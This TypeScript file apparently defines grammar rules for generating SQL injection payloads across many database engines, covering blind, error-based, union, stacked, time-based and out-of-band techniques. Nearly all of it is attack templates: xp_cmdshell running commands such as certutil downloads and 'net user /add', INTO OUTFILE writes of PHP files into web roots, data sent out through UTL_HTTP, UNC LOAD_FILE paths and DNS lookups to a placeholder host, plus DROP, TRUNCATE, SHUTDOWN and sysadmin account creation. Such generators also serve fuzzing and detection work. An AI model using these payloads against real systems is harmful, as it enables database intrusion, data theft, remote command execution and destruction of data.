/** The techniques by which a database is made to answer: blind, errors, union, stacked statements, time, out of band. */
import { lines, type Rules } from "../lib/grammar.ts";

export const TECHNIQUES: Rules = {
  /** Follows a closed value: a logical operator and something to evaluate. */
  predicate: [
    ["«logic» «cmp»", 12],
    ["«logic» («cmp»)", 3],
    ["«logic» «cmp» «logic» «cmp»", 2],
    ["«logic» «condcall»", 5],
    ["«logic» «errpredicate»", 8],
    ["«logic» «timepredicate»", 8],
    ["«logic» «heavypredicate»", 4],
    ["«logic» «oobpredicate»", 3],
    ["«having»", 2],
  ],
  logic: [
    "AND",
    "AND",
    "AND",
    "OR",
    "OR",
    "and",
    "or",
    "and",
    "or",
    "&&",
    "||",
    "AND NOT",
    "OR NOT",
    "XOR",
    "RLIKE",
    "and (",
    "OR (",
    "|",
    "&",
    "WHERE",
    "-",
    "DIV",
    "=",
    ",",
    "+",
    "IN",
    "HAVING",
  ],
  condcall: lines`
    «MAKE_SET|ELT|make_set»(«n=num»=«$n»,«num»)
    («n=num»=«$n»)*«num»
    «num»=(CASE WHEN («cmp») THEN «num» ELSE NULL END)
    «num»=IF((«cmp»),«num»,«num»)
    «num»=(SELECT (CASE WHEN («cmp») THEN «num» ELSE (SELECT «num» FROM «systable») END))
    (SELECT (CASE WHEN («cmp») THEN «num» ELSE 0x28 END))
    (SELECT (CASE WHEN («cmp») THEN NULL ELSE CTXSYS.DRITHSX.SN(1,«num») END) FROM DUAL) IS NULL
    (SELECT (CASE WHEN («cmp») THEN NULL ELSE CAST('«Rnd»' AS NUMERIC) END)) IS NULL
    CASE WHEN «cmp» THEN 1 ELSE JSON('«Rnd»') END
    IIF(«cmp»,«num»,1/0)
    «num» IN («condcase»)
    if(«cmp»,«lit»,«lit»)
    «fn»(«scalararg»)
    ifnull(«lit»,«num»)=«num»
    strcmp(«scalar»,«str»)`,
  having: [
    "HAVING «cmp»",
    "GROUP BY «col» HAVING «cmp»",
    "group by «tab».«col» having «cmp»",
    "PROCEDURE ANALYSE(EXTRACTVALUE(«num»,CONCAT(0x5c,«scalar»)),1)",
    "procedure analyse()",
    "into @«rnd2»,@«rnd2»",
    "WHERE «cmp»",
  ],

  errpredicate: lines`
    «erraddend»
    «erraddend»
    «num»=«erraddend»
    «num»=CAST((«charcat»)||(SELECT (CASE WHEN («cmp») THEN 1 ELSE 0 END))::text||(«charcat») AS NUMERIC)
    «num»=CONVERT(INT,(SELECT «charcat»+(SELECT (CASE WHEN («cmp») THEN CHAR(49) ELSE CHAR(48) END))+«charcat»))
    «num» IN (SELECT («charcat»+(SELECT (CASE WHEN («cmp») THEN CHAR(49) ELSE CHAR(48) END))+«charcat»))
    «num»=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||«charcat»||(SELECT «condcase» FROM DUAL)||CHR(62))) FROM DUAL)
    «num»=UTL_INADDR.GET_HOST_ADDRESS(«charcat»||(SELECT «condcase» FROM DUAL)||«charcat»)
    «num»=CTXSYS.DRITHSX.SN(«num»,(«charcat»||(«select1»)||«charcat»))
    «num»=DBMS_UTILITY.SQLID_TO_SQLHASH((«charcat»||(«select1»)))
    «num»=ordsys.ord_dicom.getmappingxpath((«select1»),user,user)
    ROW(«num»,«num»)>(SELECT COUNT(*),CONCAT(«hexlit»,(SELECT (ELT(«n=num»=«$n»,1))),«hexlit»,FLOOR(RAND(0)*2))x FROM (SELECT «num» UNION SELECT «num» UNION SELECT «num»)a GROUP BY x)
    «num»=RAISE_ERROR('70001',«charcat»)
    1=convert(int,«scalar»)
    1=cast(«query» as int)
    «num»=to_number(«scalar»)
    1=(select top 1 cast(«col» as int) from «tab»)
    1=xmltype(«charcat»)
    (select dbms_xmlgen.getxml('select «col» from «tab»') from dual) is not null
    «num»=CAST(«scalar» AS «INT|INTEGER|NUMERIC|BIGINT|SIGNED|xml»)`,
  select1: [
    "SELECT «scalar» FROM DUAL",
    "select «col» from «tab» where rownum=1",
    "SELECT (CASE WHEN («cmp») THEN 1 ELSE 0 END) FROM DUAL",
    "select banner from v$version where rownum=1",
  ],
  erraddend: lines`
    «EXTRACTVALUE|extractvalue»(«num»,CONCAT(«0x5c|0x7e|0x5c,0x«hexlong»|char(126)»,(SELECT (ELT(«n=num»=«$n»,1))),«hexlit»))
    extractvalue(«num»,concat(0x7e,«scalar»))
    «UPDATEXML|updatexml»(«num»,CONCAT(«0x2e|0x7e»,«hexlit»,«scalar»,«hexlit»),«num»)
    updatexml(null,concat(0x0a,«scalar»),null)
    (SELECT «num» FROM(SELECT COUNT(*),CONCAT(«hexlit»,«scalar»,«hexlit»,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.«PLUGINS|CHARACTER_SETS|TABLES» GROUP BY x)a)
    (select count(*) from information_schema.tables group by concat(«scalar»,floor(rand(0)*2)))
    EXP(~(SELECT * FROM (SELECT CONCAT(«hexlit»,«scalar»,«hexlit»,0x78))x))
    GTID_SUBSET(CONCAT(«hexlit»,«scalar»,«hexlit»),«num»)
    JSON_KEYS((SELECT CONVERT((SELECT CONCAT(«hexlit»,«scalar»,«hexlit»)) USING utf8)))
    (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(«hexlit»,«scalar»,«hexlit»,0x78))s), 8446744073709551610, 8446744073709551610)))
    «polygon|multipoint|geometrycollection|linestring|multilinestring|multipolygon»((select*from(select*from(select «scalarfn»)a)b))
    ST_LatFromGeoHash(«scalarfn»)
    CAST(«scalar» AS NUMERIC)
    CONVERT(INT,«scalar»)
    CHR(«code»)||CHR(«code»)||«scalar»
    UTL_INADDR.GET_HOST_NAME(«query»)
    ExtractValue(xmltype('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % «rnd» SYSTEM "http://«host»/">%«rnd»;]>'),'/l')
    1/(SELECT 0 FROM «systable»«where»)
    (SELECT LTRIM(«query»,'«rnd»')/0)
    dbms_xdb_version.checkin((«select1»))
    ~(SELECT «num»)+«num»`,

  union: lines`
    UNION ALL SELECT «nulls»
    UNION ALL SELECT «nulls»
    UNION ALL SELECT «marker»
    union all select «marker»
    UNION ALL SELECT «marker» FROM «dummy»
    UNION ALL SELECT «nulls» FROM «dummy»
    UNION ALL SELECT «markedcols»
    UNION SELECT «nums»
    UNION SELECT «nums»
    union select «nums»
    union select «cols» from «tab»«where»«limit»
    UNION SELECT «cols» FROM «tab»«where»«limit»
    UNION ALL SELECT «cols» FROM «tab»«where»«limit»
    union all select «cols» from «tab»
    UNION DISTINCT SELECT «cols»
    union distinctrow select «cols» from «tab»
    UNION SELECT «cols» INTO «OUTFILE|DUMPFILE» «outfile»
    UNION SELECT «num»,load_file(«str»),«num»
    UNION (SELECT «nums»)
    union(select(«num»),«col»,(«num»)from(«tab»))
    UNION SELECT * FROM (SELECT «num»)a JOIN (SELECT «num»)b JOIN (SELECT «scalar»)c
    UNION SELECT «top»«cols» FROM «tab»«where»
    union select «cols» from «tab» group by «col» having «cmp»
    UNION VALUES(«nums»)
    EXCEPT SELECT «cols» FROM «tab»
    INTERSECT SELECT «cols» FROM «tab»
    minus select «cols» from dual
    union select xmltype(«str») from dual
    UNION SELECT «num»,sql,«num» FROM sqlite_master
    union select «num»,group_concat(table_name),«num» from information_schema.tables where table_schema=database()
    union select «num»,group_concat(column_name),«num» from information_schema.columns where table_name=«hexlit»
    UNION TABLE «tab»
    union select unhex(hex(«scalar»)),«nums»
    AND «n=num»=«num» UNION ALL SELECT «nulls»
    ORDER BY «small» UNION SELECT «nums»
    limit «digit»,«digit» union select «nums»`,
  nulls: ["NULL«cn*0-12»", "null«cn*0-9»", "«markedcol»«cn*0-8»", "NULL«cn*0-4»,«markedcol»«cn*0-6»"],
  cn: [",NULL", ",NULL", ",null"],
  nums: [
    "«num»",
    "1,2",
    "1,2,3",
    "1,2,3,4",
    "1,2,3,4,5,6,7,8",
    "«num»«cnum*0-14»",
    "«n=num»,«$n»,«$n»,«$n»",
    "1,«scalar»,3",
    "«hexlit»«chex*0-8»",
    "'«small»','«small»','«small»'",
    "«int4»«cnum*0-20»",
    "«scalar»,«num»",
    "@@version,«num»",
    "char(«code»,«code»),«num»",
  ],
  /** As many columns as it takes, all with the one value that is looked for in the answer. */
  marker: (rng) => {
    const value = String(rng.int(1, 9999));
    return Array.from({ length: rng.int(1, 14) }, () => value).join(",");
  },
  cnum: [",«num»", ",«num»", ",«int4»", ",«scalar»"],
  chex: [",«hexlit»"],
  markedcols: ["«markedcol»", "«markedcol»,«markedcol»", "«num»,«markedcol»,«num»", "NULL,«markedcol»"],
  markedcol: lines`
    CONCAT(«hexlit»,«castq»,«hexlit»)
    CONCAT(0x7«hex1»7«hex1»7«hex1»7«hex1»71,«hexlit»,0x7«hex1»7«hex1»7«hex1»7«hex1»71)
    CHR(113)||«charcat»||«castq»||CHR(113)
    CHAR(113)+«charcat»+«castq»+CHAR(113)
    'q«rnd»q'||«castq»||'q«rnd»q'
    («charcat»)||(«castq»)||(«charcat»)`,
  cols: [
    "«col»",
    "«col»,«col»",
    "*",
    "«num»,«col»",
    "«num»,«col»,«num»",
    "«nums»",
    "«scalar»,«num»",
    "«castq»",
    "«num»,«castq»,«num»,«num»",
    "«col»,«col»,«col»,«num»",
    "null,«col»,null",
    "«scalar»",
    "«str»,«num»",
  ],
  dummy: [
    "DUAL",
    "DUAL",
    "RDB$DATABASE",
    "SYSIBM.SYSDUMMY1",
    "MSysAccessObjects",
    "INFORMATION_SCHEMA.SYSTEM_USERS",
    "SYSMASTER:SYSDUAL",
    "VERSIONS",
    "«tab»",
    "(VALUES(0))",
  ],
  outfile: [
    "'/var/www/html/«rnd».php'",
    "'/tmp/«rnd»'",
    "'C:/xampp/htdocs/«rnd».php'",
    "'c:\\\\inetpub\\\\wwwroot\\\\«rnd».asp'",
    "'/tmp/«rnd».txt' LINES TERMINATED BY «hexlit»",
    "'/usr/lib/mysql/plugin/«rnd».so'",
  ],
  order: [
    "ORDER BY «int»",
    "order by «small»",
    "ORDER BY «int»,«int»",
    "GROUP BY «small»",
    "group by «int»",
    "ORDER BY «condcaseparen»",
    "order by «col» «asc|desc»,(«select1»)",
    "LIMIT «small»,«small» «proc»",
    "order by if(«cmp»,«col»,«col»)",
    "ORDER BY 1,extractvalue(«num»,concat(0x7e,«scalarfn»))",
    "order by rand(«cmp»)",
    "limit 1 offset «int»",
    "ORDER BY «int»-«int»",
    "ORDER BY «int» DESC",
  ],
  proc: [
    "PROCEDURE ANALYSE(EXTRACTVALUE(«int»,CONCAT(0x5c,«hexlit»)),1)",
    "into outfile «outfile»",
    "procedure analyse(1,1)",
    "UNION SELECT «nums»",
  ],
  condcaseparen: ["(«condcase»)", "(CASE WHEN «cmp» THEN «col» ELSE «col» END)"],

  stacked: lines`
    SELECT SLEEP(«secs»)
    «timestatement»
    «timestatement»
    «timestatement»
    SELECT BENCHMARK(«big»,MD5(0x«hexlong»))
    DROP «TABLE|DATABASE|VIEW|SCHEMA|USER» «tab»
    drop table «tab»«;|»
    drop table if exists «tab» cascade
    INSERT INTO «tab» («col»,«col») VALUES («lit»,«lit»)
    insert into «tab» values («lit»,«lit»,«lit»)
    UPDATE «tab» SET «col»=«lit»«where»
    update «tab» set «col»='«rnd»' where «col»='«noun»'
    DELETE FROM «tab»«where»
    TRUNCATE TABLE «tab»
    ALTER TABLE «tab» «ADD|DROP COLUMN» «rnd»«| varchar(255)»
    alter user «rnd» identified by «rnd»
    CREATE TABLE «rnd»(«rnd» «text|varchar(8000)|int|blob|bytea»)
    create user «rnd» «identified by '«rnd»'|with password '«rnd»'»
    GRANT ALL PRIVILEGES ON *.* TO '«rnd»'@'%'
    SELECT «cols» FROM «tab»«where»
    select * from «tab»
    EXEC «master..|master.dbo.|sys.|»xp_«cmdshell|dirtree|fileexist|regread|regwrite|availablemedia|subdirs|servicecontrol|enumgroups|loginconfig|makecab|ntsec_enumdomains|terminate_process» '«shell»'
    exec «master..|master.dbo.|»xp_cmdshell '«shell»'
    EXEC sp_«configure 'show advanced options',1;RECONFIGURE|configure 'xp_cmdshell',1|oacreate 'wscript.shell',@«rnd» out|makewebtask '\\«host»\«rnd».html'|addlogin '«rnd»','«rnd»'|addsrvrolemember '«rnd»','sysadmin'|executesql N'«rnd»'|password '','«rnd»','«rnd»'|helpdb|who»
    DECLARE @«v=Rnd» «CHAR(9)|VARCHAR(8000)|NVARCHAR(4000)|INT»;SET @«$v»=0x«hexlong»;EXEC(@«$v»)
    declare @«v=letter» varchar(1024);set @«$v»=(«select1»);exec('master..xp_dirtree "//'+@«$v»+'.«host»/«letter»"')
    DECLARE @host varchar(1024);SELECT @host=(SELECT TOP 1 «col» FROM «tab»)+'.«host»';EXEC('master..xp_dirtree "\\'+@host+'\«rnd»"')
    SHUTDOWN«| WITH NOWAIT»
    COPY «tab» «FROM|TO» «PROGRAM '«shell»'|'/tmp/«rnd»'|stdout»
    CREATE OR REPLACE FUNCTION «rnd»(«text|int|cstring») RETURNS «int|text|void» AS '/lib/«x86_64-linux-gnu/|»libc.so.6','«system|sleep»' language 'C' STRICT
    CREATE FUNCTION «sys_eval|sys_exec|lib_mysqludf_sys_info|«rnd»» RETURNS «string|int|integer» SONAME '«rnd».«so|dll»'
    select sys_«eval|exec»('«shell»')
    SELECT lo_«import|export|from_bytea|create»(«str»)
    SELECT dblink_«connect|send_query|exec»('host=«host» user=«rnd» dbname=«rnd»')
    select pg_«read_file|ls_dir|reload_conf|terminate_backend|file_settings|read_binary_file»(«str»)
    ATTACH DATABASE '/var/www/«rnd».php' AS «rnd»
    PRAGMA «table_info(«noun»)|database_list|user_version»
    select load_extension('\\«host»\«rnd»','«rnd»')
    BULK INSERT «rnd» FROM 'c:\«rnd».«txt|ini»'
    SELECT * FROM OPENROWSET('«SQLOLEDB|SQLNCLI|MSDASQL»','«DRIVER={SQL Server};SERVER=«host»;|»uid=sa;pwd=«rnd»','select «num»')
    LOAD DATA «LOCAL |»INFILE '«unixfile»' INTO TABLE «tab»
    HANDLER «tab» «OPEN|READ FIRST|READ NEXT»
    SET @«v=rnd»=0x«hexlong»;PREPARE «rnd2» FROM @«$v»;EXECUTE «rnd2»
    set global general_log_file='/var/www/«rnd».php'
    show «tables|databases|variables|grants|columns from «tab»|processlist|create table «tab»»
    RENAME TABLE «tab» TO «rnd»
    begin «rnd»; end
    EXECUTE IMMEDIATE '«rnd»'
    BEGIN EXECUTE IMMEDIATE '«drop|grant|create» «noun» «rnd»'; END
    CALL «rnd»(«str»)
    MERGE INTO «tab» USING DUAL ON («cmp») WHEN MATCHED THEN UPDATE SET «col»=«lit»
    use «master|mysql|«noun»»
    kill «int»
    commit; drop table «tab»
    if «cmp» «select1» else drop function «rnd»
    if(«cmp») waitfor delay '0:0:«secs»'`,
  shell: [
    "whoami",
    "dir",
    "ping «host»",
    "net user «rnd» «rnd» /add",
    "id",
    "nslookup «host»",
    "certutil -urlcache -f «url»",
    "cmd /c «dir|ver|echo «rnd»»",
    "ping -n «small» 127.0.0.1",
    "cat /etc/passwd",
    "C:\\",
    "curl «url»",
    "\\\\«host»\\«rnd»",
    "powershell -c «rnd»",
  ],
  timestatement: lines`
    WAITFOR DELAY '0:0:«secs»'
    waitfor delay '0:0:«secs»'
    waitfor «delay|time» '00:00:«secs»'
    IF(«cmp») WAITFOR DELAY '0:0:«secs»'
    if («cmp») waitfor delay '0:0:«secs»'
    SELECT PG_SLEEP(«secs»)
    select pg_sleep(«secs»)
    SELECT (CASE WHEN («cmp») THEN (SELECT «num» FROM PG_SLEEP(«secs»)) ELSE «num» END)
    SELECT pg_sleep(«secs») FROM «tab»
    BEGIN DBMS_LOCK.SLEEP(«secs»); END
    BEGIN USER_LOCK.SLEEP(«secs».00); END
    SELECT DBMS_PIPE.RECEIVE_MESSAGE(«charcat»,«secs») FROM DUAL
    SELECT CASE WHEN («cmp») THEN DBMS_PIPE.RECEIVE_MESSAGE(«charcat»,«secs») ELSE «num» END FROM DUAL
    (SELECT * FROM (SELECT(SLEEP(«secs»)))«Rnd»)
    SELECT COUNT(*) FROM «heavytables»
    SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(«big»00/2))))
    CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(«code»),0),500000000),NULL)
    CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),500000000),NULL)
    SELECT DBMS_SESSION.SLEEP(«secs»)
    DO SLEEP(«secs»)`,
  timecall: lines`
    sleep(«secs»)
    SLEEP(«secs»)
    sleep(«secs»)
    benchmark(«big»,«md5|sha1|encode|sha2»(«lit»))
    BENCHMARK(«big»00,MD5(0x«hexlong»))
    pg_sleep(«secs»)
    (SELECT PG_SLEEP(«secs»))
    (select «num» from pg_sleep(«secs»))
    DBMS_PIPE.RECEIVE_MESSAGE(«charcat»,«secs»)
    DBMS_PIPE.RECEIVE_MESSAGE('«rnd»',«secs»)
    (select sleep(«secs»))
    (select(sleep(«secs»)))
    if(«cmp»,sleep(«secs»),0)
    IF(«cmp»,BENCHMARK(«big»,MD5(«num»)),0)
    (SELECT «num» FROM (SELECT(SLEEP(«secs»)))«Rnd»)
    (SELECT * FROM (SELECT(SLEEP(«secs»-(IF(«cmp»,0,«secs»)))))«Rnd»)
    (select(0)from(select(sleep(«secs»)))v)
    get_lock('«rnd»',«secs»)
    randomblob(«big»)
    cast(pg_sleep(«secs») as text)
    (SELECT UPPER(HEX(RANDOMBLOB(«big»))))`,
  timepredicate: lines`
    «timecall»
    «timecall»
    «num»=«timecall»
    «num»=IF((«cmp»),«timecall»,«num»)
    «num»=(CASE WHEN («cmp») THEN «timecall» ELSE «num» END)
    (SELECT «num» FROM (SELECT(SLEEP(«secs»)))«Rnd»)
    «num»=(SELECT «num» FROM PG_SLEEP(«secs»))
    «num»=DBMS_PIPE.RECEIVE_MESSAGE(«charcat»,«secs»)
    «num»=BENCHMARK(«big»,MD5(0x«hexlong»))
    «timecall»=«num»`,
  heavytables: lines`
    «systable» AS T1,«systable» AS T2,«systable» AS T3
    INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C
    ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5
    SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3
    RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4
    SYSUSERS AS SYS1,SYSUSERS AS SYS2,SYSUSERS AS SYS3,SYSUSERS AS SYS4,SYSUSERS AS SYS5,SYSUSERS AS SYS6,SYSUSERS AS SYS7
    DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3
    SYSMASTER:SYSPAGHDR
    GENERATE_SERIES(1,«big»)`,
  heavypredicate: lines`
    «num»=(SELECT COUNT(*) FROM «heavytables»)
    «num»=(SELECT COUNT(*) FROM «heavytables»)
    «num»=(CASE WHEN («cmp») THEN (SELECT COUNT(*) FROM «heavytables») ELSE «num» END)
    «num»=IIF(«cmp»,(SELECT COUNT(*) FROM «heavytables»),«num»)
    «num»=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(«big»00/2))))
    «num»=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(«big»/2))))
    «num»=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(«num»),0),5000000000),NULL)
    '«Rnd»'=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),500000000),NULL)
    «num»=(SELECT COUNT(*) FROM GENERATE_SERIES(1,«big»))`,
  oobpredicate: lines`
    «num»=LOAD_FILE(CONCAT('\\\\',«scalar»,'.«host»\\«rnd»'))
    load_file('\\\\«host»\\«rnd»')
    «num»=UTL_HTTP.REQUEST('http://«host»/'||(«select1»))
    «num»=(SELECT UTL_INADDR.GET_HOST_ADDRESS((«select1»)||'.«host»') FROM DUAL)
    HTTPURITYPE('http://«host»/'||«scalar»).getclob() is not null
    «num»=DBMS_LDAP.INIT((«select1»)||'.«host»',«port»)
    exists(select * from fn_«xe_file_target_read_file|get_audit_file|trace_gettable»('\\'+«scalar»+'.«host»\«rnd»',null,null,null))
    (select load_file(concat(0x5c5c5c5c,«scalar»,0x2e«hexlong»)))
    «num»=(select dblink_connect('host='||«scalar»||'.«host» user=«rnd»'))
    (select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE «rnd» [ <!ENTITY % «v=rnd» SYSTEM "http://«host»/">%«$v»;]>'),'/l') from dual) is null`,
};
